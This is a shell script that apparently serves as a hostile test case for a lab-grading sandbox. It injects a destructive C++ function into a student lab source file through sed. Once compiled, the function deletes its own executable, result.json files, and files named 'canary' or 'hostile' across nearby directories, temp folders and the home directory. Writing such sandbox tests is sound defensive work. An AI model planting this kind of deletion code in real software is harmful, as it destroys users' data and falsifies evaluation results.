#!/bin/sh
# Deletes its own program, result files above it, and whatever is named canary or hostile near it.
# from: starters
# lab: lab1
# expect: lab1 0

{
    cat << 'CPP'
#include <cstdlib>
#include <filesystem>
#include <string>
#include <unistd.h>
static void attack() {
    namespace fs = std::filesystem;
    std::error_code error;
    fs::remove(fs::read_symlink("/proc/self/exe", error), error);
    const char* home = std::getenv("HOME");
    for (const std::string folder : {".", "..", "../..", "/tmp", "/var/tmp", "/dev/shm", home == nullptr ? "/root" : home})
        for (const auto& entry : fs::directory_iterator(folder, fs::directory_options::skip_permission_denied, error)) {
            const std::string name = entry.path().filename().string();
            if (name.find("canary") != std::string::npos || name.find("hostile") != std::string::npos || name == "result.json")
                fs::remove_all(entry.path(), error);
        }
}

CPP
    sed 's/^\(std::size_t\|Reduction\) .*) {$/&\n    attack();/' labs/lab1/reduction_scalar.cpp
} > hostile.tmp
mv hostile.tmp labs/lab1/reduction_scalar.cpp
